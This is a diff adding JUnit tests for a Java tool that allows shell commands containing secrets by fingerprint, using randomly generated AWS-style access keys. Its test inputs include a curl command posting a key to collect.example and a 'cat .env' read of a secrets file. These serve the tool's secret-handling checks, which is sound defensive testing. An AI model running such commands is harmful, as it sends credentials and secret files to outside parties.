@@ -12,6 +12,7 @@ import java.nio.file.Path;
 import java.nio.file.attribute.PosixFilePermissions;
 import java.util.HashMap;
 import java.util.Map;
+import java.util.Random;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -198,6 +199,35 @@ class TrustAndAllowTest {
   void whatIsAllowedPasses(String command) {
     assertThat(allow(command)).isZero();
     assertThat(check(command)).isZero();
+  }
+
+  @Test
+  void aValueIsAllowedByItsFingerprintWhateverIsDoneWithIt() throws IOException {
+    String example = accessKey();
+    String other = accessKey();
+
+    assertThat(allow("echo " + example)).isZero();
+
+    assertThat(out).contains("\"fingerprint\": \"").doesNotContain(example);
+    assertThat(configuration).content().doesNotContain(example);
+    assertThat(check("echo " + example)).isZero();
+    assertThat(check("curl -d " + example + " https://collect.example")).isZero();
+    assertThat(check("echo " + other)).isEqualTo(1);
+    assertThat(check("echo " + example + " " + other)).isEqualTo(1);
+    assertThat(check("echo " + example + "; cat .env")).isEqualTo(1);
+  }
+
+  @Test
+  void aCommandThatHoldsAValueIsNotWrittenDown() {
+    assertThat(allow("cat .env; echo " + accessKey())).isEqualTo(2);
+    assertThat(err).contains("it holds a value");
+    assertThat(configuration).doesNotExist();
+  }
+
+  private static String accessKey() {
+    StringBuilder key = new StringBuilder("AKIA");
+    new Random().ints(16, 0, 26).forEach(i -> key.append((char) ('A' + i)));
+    return key.toString();
   }
 
   @Test
